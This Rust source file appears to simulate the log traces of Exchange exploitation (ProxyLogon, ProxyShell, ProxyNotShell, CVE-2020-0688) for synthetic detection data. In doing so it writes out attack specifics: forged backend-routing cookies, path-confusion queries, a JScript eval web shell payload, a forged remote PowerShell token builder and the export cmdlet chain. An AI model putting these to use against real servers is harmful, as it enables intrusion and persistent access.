//! How the use of each flaw of Exchange looks, when it works and when it does not.
//!
//! In: when and from where. Out: calls, cmdlets, events in the world; the time at which a web shell was written, `None` if
//! it did not come to that. Source of every trace: public write-ups of the flaws, as the notes on Exchange list them.

use super::exchange_logs::Cmdlet;
use super::intruder::{self, BROWSER};
use super::story::Flaw;
use super::windows_logs;
use super::wire::Call;
use super::world::World;
use crate::ecp::EcpRequest;
use crate::moment::Moment;
use crate::random::Random;
use crate::request::Request;
use crate::sysmon::Process;

const PYTHON: &str = "python-requests/2.25.1";
const PSRP: &str = "Python PSRP Client";
const WEB: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB";

/// CVE-2021-26855 and CVE-2021-27065. Where the server name is wrong or the flaw is closed, the chain ends at once.
pub(super) fn proxylogon(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    source: &str,
    _door: usize,
) -> Option<Moment> {
    let page = format!("/ecp/{}.js", random.hex(1));
    let fqdn = world.fqdn().to_lowercase();
    let mut forged = Forged { page: &page, source, fqdn: &fqdn };
    let discover = "/autodiscover/autodiscover.xml?";
    if !world.plan.succeeds {
        return proxylogon_in_vain(world, random, at, &mut forged);
    }
    forged.send(world, random, at.plus_ms(160), "ExchangeServicesClient/0.0.0.0", discover, 200);
    forged.send(world, random, at.plus_ms(1_640), PYTHON, "/mapi/emsmdb/?", 200);
    forged.send(world, random, at.plus_ms(4_010), PYTHON, "/ecp/proxyLogon.ecp?", 241);
    let canary = format!("{}.", random.base64(22).replace(['+', '/'], "x"));
    let url = |verb: &str, schema: &str| {
        format!("/ecp/DDI/DDIService.svc/{verb}?msExchEcpCanary={canary}&schema={schema}OABVirtualDirectory")
    };
    let (get, set, reset) = (url("GetObject", ""), url("SetObject", ""), url("SetObject", "Reset"));
    for (after, anchor) in [(6_200, &get), (8_300, &set), (13_900, &reset)] {
        forged.send(world, random, at.plus_ms(after), PYTHON, anchor, 200);
    }
    oab_cmdlets(world, random, at, (&get, &set, &reset));
    let written = at.plus_ms(12_700);
    let pool = Process::pool(world.mx(), "MSExchangeECPAppPool");
    intruder::shell_written(world, written, &pool);
    Some(written)
}

/// On a patched server the cookie is dropped: the page is not there. On an open one the name of the server was wrong.
fn proxylogon_in_vain(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    forged: &mut Forged<'_>,
) -> Option<Moment> {
    let patched = world.plan.is_patched(at);
    for (after, anchor) in
        [(160, "/autodiscover/autodiscover.xml?"), (2_100, "/mapi/emsmdb/?"), (4_400, "/ecp/proxyLogon.ecp?")]
    {
        let time = at.plus_ms(after);
        if patched {
            let request = Request::post(random, time, forged.page, forged.source, PYTHON);
            let asked = Request {
                anchor: format!("ServerInfo~a]@{}:444{anchor}#", forged.fqdn),
                routing_hint: "X-BEResource-Cookie",
                ..request.status(500)
            };
            let errors = "Microsoft.Exchange.HttpProxy.HttpProxyException: The back end cookie is not valid";
            world.call(&Call::front(asked).errors(errors));
        } else {
            forged.fqdn = "exch01.corp.example";
            forged.send(world, random, time, PYTHON, anchor, 503);
        }
    }
    None
}

/// Requests through CVE-2021-26855: a static name, and the back end's address in the cookie.
struct Forged<'a> {
    page: &'a str,
    source: &'a str,
    fqdn: &'a str,
}

impl Forged<'_> {
    fn send(
        &mut self,
        world: &mut World<'_>,
        random: &mut Random,
        at: Moment,
        agent: &str,
        anchor: &str,
        status: u16,
    ) {
        let request = Request::post(random, at, self.page, self.source, agent).status(status);
        let request = Request {
            anchor: format!("ServerInfo~a]@{}:444{anchor}#", self.fqdn),
            routing_hint: "X-BEResource-Cookie",
            ..request
        };
        if status >= 500 {
            let errors = "System.Net.WebException: The remote name could not be resolved";
            world.call(&Call { back: None, ..Call::front(request).errors(errors) });
            return;
        }
        let (stem, query) = anchor.split_once('?').unwrap_or((anchor, ""));
        let user = world.machine_name();
        world.call(&Call::bent(request, stem, query, &user));
    }
}

/// The offline address book's URL becomes a file: what the control panel and the cmdlet log say of it.
fn oab_cmdlets(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    (get, set, reset): (&str, &str, &str),
) {
    let script = format!(
        "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){{eval(Request[\"{}\"],\"unsafe\");}}</script>",
        random.hex(8)
    );
    let (identity, mx, fqdn) = (random.guid(), world.mx().to_owned(), world.fqdn().to_lowercase());
    let directory = format!(r"{mx}\OAB (Default Web Site)");
    let made = format!(
        "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{mx}'.Role='ClientAccess'.\
         InternalURL='https://{fqdn}/OAB'.Path='{WEB}'"
    );
    let panel = [
        (6_180, get, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null".to_owned()),
        (8_270, set, format!("Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='{identity}'")),
        (11_900, reset, format!("Get-OABVirtualDirectory.Identity='{identity}'")),
        (12_800, reset, format!("Remove-OABVirtualDirectory.Force=$true.Identity='{directory}'")),
        (13_820, reset, made),
        (17_400, set, format!("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{identity}'")),
    ];
    for (after, url, command) in panel {
        let ran = EcpRequest { time: at.plus_ms(after), command, url: url.to_owned(), error: String::new() };
        world.panel(random, &ran);
    }
    let cmdlets = [
        (8_280, "Set-OabVirtualDirectory", format!("-ExternalUrl \"{script}\" -Identity \"{identity}\"")),
        (12_810, "Remove-OabVirtualDirectory", format!("-Force \"True\" -Identity \"{directory}\"")),
        (
            13_830,
            "New-OabVirtualDirectory",
            format!(
                "-WebSiteName \"Default Web Site\" -Server \"{mx}\" -Role \"ClientAccess\" -InternalUrl \"https://{fqdn}/OAB\" -Path \"{WEB}\""
            ),
        ),
    ];
    for (after, name, parameters) in cmdlets {
        let (time, sid) = (at.plus_ms(after), "S-1-5-18".to_owned());
        let ran = Cmdlet { time, name, parameters, account: "SYSTEM", sid, remote: false, error: "" };
        world.cmdlet(random, &ran);
    }
}

/// CVE-2021-34473, -34523 and -31207. On a patched server the path is not rewritten any more.
pub(super) fn proxyshell(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    source: &str,
    _door: usize,
) -> Option<Moment> {
    let host = format!("{}.com", random.hex(5));
    let admin = &world.story.place.admin;
    let sid = format!("{}-500", world.story.place.sid);
    let mail = format!("{}@{}", admin.name, world.story.place.dns);
    let mut bent = Bent { source, host: &host, stem: "/autodiscover/autodiscover.json" };
    let token = rps_cat(&mail, &sid);
    let powershell = format!(
        "powershell/?X-Rps-CAT={}",
        token.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D")
    );
    if !world.plan.succeeds {
        // A mitigation, or the update: what comes back says no, however often he asks.
        for (after, target) in [
            (0, "mapi/nspi/"),
            (900, "ews/exchange.asmx"),
            (2_400, powershell.as_str()),
            (4_100, powershell.as_str()),
        ] {
            let request = bent.request(random, at.plus_ms(after), PSRP, target);
            let status = *random.pick(&[400, 404]);
            world.call(&Call::front(request.status(status)));
        }
        return None;
    }
    let system = r"NT AUTHORITY\SYSTEM";
    for (after, target, back) in [
        (0, "mapi/nspi/", "/mapi/nspi/"),
        (1_300, "autodiscover/autodiscover.xml", "/autodiscover/autodiscover.xml"),
        (2_500, "mapi/emsmdb", "/mapi/emsmdb/"),
    ] {
        let request = bent.request(random, at.plus_ms(after), PYTHON, target);
        world.call(&Call::bent(request, back, "", system));
    }
    let draft = bent.request(random, at.plus_ms(4_100), PYTHON, "ews/exchange.asmx");
    let draft = Call::bent(draft, "/EWS/exchange.asmx", "", system);
    world.call(&draft);
    world.ews(&draft, "CreateItem");
    let time = export_cmdlets(world, random, at.plus_ms(6_000), &mut bent, (&token, &powershell));
    let service = r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe";
    let writer = Process::lasting(world.mx(), service, service);
    let written = time.plus_seconds(4);
    intruder::shell_written(world, written, &writer);
    Some(written)
}

/// The export that writes the page, by remote `PowerShell` as the administrator. Returns when the last cmdlet had run.
fn export_cmdlets(
    world: &mut World<'_>,
    random: &mut Random,
    mut time: Moment,
    bent: &mut Bent<'_>,
    (token, powershell): (&str, &str),
) -> Moment {
    let host = bent.host;
    let admin = &world.story.place.admin;
    let (name, sid) = (world.logon_name(&admin.name), format!("{}-500", world.story.place.sid));
    let mail = format!("{}@{}", admin.name, world.story.place.dns);
    let file = world.plan.shell.file.replacen("C:", r"\\127.0.0.1\C$", 1);
    let cmdlets = [
        ("New-ManagementRoleAssignment", format!("-Role \"Mailbox Import Export\" -User \"{}\"", admin.name)),
        (
            "New-MailboxExportRequest",
            format!(
                "-Mailbox \"{mail}\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq '{}')\" -ExcludeDumpster \"True\" -FilePath \"{file}\"",
                random.hex(10)
            ),
        ),
        ("Remove-MailboxExportRequest", "-Confirm \"False\"".to_owned()),
    ];
    for (cmdlet, parameters) in cmdlets {
        for verb in ["New-PSSession:Create", "Command"] {
            let action = if verb == "Command" { format!("{cmdlet}:Command") } else { verb.to_owned() };
            let request = bent.request(random, time, PSRP, powershell);
            let email = format!("Email=autodiscover/autodiscover.json%3F@{host}");
            let back = format!("X-Rps-CAT={}&{email}", token.replace('+', "%2B"));
            let call = Call::bent(request, "/powershell", &back, &name).action(&action);
            world.call(&call);
            world.remote_shell(&call, &name);
            time = time.plus_ms(i64::from(random.between(700, 1_900)));
        }
        let ran = Cmdlet {
            time,
            name: cmdlet,
            parameters,
            account: &admin.name,
            sid: sid.clone(),
            remote: true,
            error: "",
        };
        world.cmdlet(random, &ran);
        time = time.plus_ms(i64::from(random.between(1_500, 4_000)));
    }
    time
}

/// Requests whose path means another one behind the front end.
struct Bent<'a> {
    source: &'a str,
    host: &'a str,
    stem: &'a str,
}

impl Bent<'_> {
    fn request(&mut self, random: &mut Random, at: Moment, agent: &str, target: &str) -> Request {
        let mark = if target.contains('?') { '&' } else { '?' };
        let host = self.host;
        let query = format!("@{host}/{target}{mark}Email=autodiscover/autodiscover.json%3F@{host}");
        let request = Request::post(random, at, self.stem, self.source, agent).query(query);
        Request { authentication: "", ..request }
    }
}

/// CVE-2022-41082 behind -41040 or -41080: remote `PowerShell` as somebody whose password is known.
pub(super) fn behind_a_user(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    source: &str,
    _door: usize,
) -> Option<Moment> {
    let victim = intruder::victim(world);
    let name = world.logon_name(&victim);
    let owa = world.story.flaw == Flaw::Owassrf;
    let agent = *random.pick(&["python-requests/2.28.1", "Python PSRP Client", "Mozilla/5.0 zgrab/0.x"]);
    let host = format!("{}.net", random.hex(6));
    let (stem, query) = if owa {
        (format!("/owa/{}%40{}/powershell", random.pick(&["mastermailbox", "guest"]), host), String::new())
    } else {
        let query = format!(
            "a@{host}/powershell/?&Email=autodiscover/autodiscover.json%3fa@{host}&Protocol=XYZ&FooProtocol=Powershell"
        );
        ("/autodiscover/autodiscover.json".to_owned(), query)
    };
    let count = if world.plan.succeeds { 5 } else { 3 };
    let mut time = at;
    for _ in 0..count {
        let request =
            Request::post(random, time, &stem, source, agent).query(query.clone()).signed_in(&name, "Basic");
        if world.plan.succeeds {
            let call = Call::bent(request, "/powershell", "", &name).action("New-PSSession:Create");
            world.call(&call);
            world.remote_shell(&call, &name);
        } else {
            let status = if owa { *random.pick(&[401, 500]) } else { *random.pick(&[403, 400]) };
            world.call(&Call::front(request.status(status)));
        }
        time = time.plus_ms(i64::from(random.between(700, 2_600)));
    }
    if !world.plan.succeeds {
        return None;
    }
    let pool = Process::pool(world.mx(), "MSExchangePowerShellAppPool");
    for one in ["whoami", "ipconfig /all"] {
        intruder::command(world, random, time, &pool, one);
        time = time.plus_ms(i64::from(random.between(900, 3_000)));
    }
    intruder::shell_written(world, time, &pool);
    Some(time)
}

/// CVE-2020-0688. The answer is 500 whether it works or not; what follows on the server tells.
pub(super) fn viewstate(
    world: &mut World<'_>,
    random: &mut Random,
    at: Moment,
    source: &str,
    _door: usize,
) -> Option<Moment> {
    let victim = intruder::victim(world);
    let name = world.logon_name(&victim);
    let sent =
        Request::post(random, at, "/owa/auth.owa", source, BROWSER).status(302).signed_in(&name, "FBA");
    world.call(&Call::proxied(sent));
    let panel = Request::get(random, at.plus_ms(900), "/ecp/", source, BROWSER).signed_in(&name, "FBA");
    world.call(&Call::proxied(panel));
    let public = world.story.place.public.clone();
    let caller = format!("{}/Users/{victim}", world.story.place.dns);
    let pool = Process::pool(world.mx(), "MSExchangeECPAppPool");
    let mut written = None;
    for after in [8_000, 31_000] {
        let time = at.plus_ms(after);
        let state = random.base64(1_360).replace('+', "%2B").replace('/', "%2F");
        let query = format!("__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={state}");
        let request = Request::get(random, time.plus_ms(210), "/ecp/default.aspx", source, BROWSER)
            .query(query.clone())
            .signed_in(&name, "FBA")
            .status(500);
        world.call(&Call::proxied(request));
        if world.plan.succeeds {
            let url = format!("https://{public}:444/ecp/default.aspx?{query}");
            world.event(windows_logs::panel_failed(time.plus_ms(90), &caller, &url));
            intruder::command(world, random, time, &pool, "whoami");
            written = Some(time.plus_ms(140));
        } else {
            let refused =
                windows_logs::viewstate_refused(time.plus_ms(90), &name, source, "/ecp/default.aspx");
            world.event(refused);
        }
    }
    if let Some(written) = written {
        intruder::shell_written(world, written, &pool);
    }
    written
}

/// The token that names whom a request to remote `PowerShell` acts as: an account, its SID and groups.
fn rps_cat(logon: &str, sid: &str) -> String {
    let mut bytes = b"V\x01\x00".to_vec();
    let text = |bytes: &mut Vec<u8>, mark: &[u8], text: &str| {
        bytes.extend_from_slice(mark);
        bytes.push(u8::try_from(text.len()).unwrap_or(u8::MAX));
        bytes.extend_from_slice(text.as_bytes());
    };
    text(&mut bytes, b"T", "Windows");
    bytes.extend_from_slice(b"C\x00");
    text(&mut bytes, b"A", "Basic");
    text(&mut bytes, b"L", logon);
    text(&mut bytes, b"U", sid);
    bytes.push(b'G');
    bytes.extend_from_slice(&4_u32.to_le_bytes());
    for group in ["S-1-1-0", "S-1-5-2", "S-1-5-11", "S-1-5-15"] {
        bytes.extend_from_slice(&7_u32.to_le_bytes());
        text(&mut bytes, b"", group);
    }
    bytes.push(b'E');
    bytes.extend_from_slice(&0_u32.to_le_bytes());
    base64(&bytes)
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let padded = [0, 1, 2].map(|at| u32::from(three.get(at).copied().unwrap_or(0)));
        let [a, b, c] = padded;
        let bits = (a << 16) | (b << 8) | c;
        for at in 0..4_u32 {
            let index = (bits >> (18 - 6 * at)) & 63;
            let sign = ALPHABET.get(index as usize).copied().unwrap_or(b'A');
            out.push(if at as usize <= three.len() { char::from(sign) } else { '=' });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_is_that_of_the_rfc() {
        let known = [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")];
        for (text, code) in known {
            assert_eq!(base64(text.as_bytes()), code);
        }
    }

    /// The beginning is that of tokens seen in real logs.
    #[test]
    fn a_token_begins_as_real_ones_do() {
        let token = rps_cat("a@prov.example", "S-1-5-21-1-500");
        assert!(token.starts_with("VgEAVAdXaW5kb3dzQwBBBUJhc2lj"), "{token}");
        assert!(token.ends_with("RQAAAAA="), "{token}");
    }
}
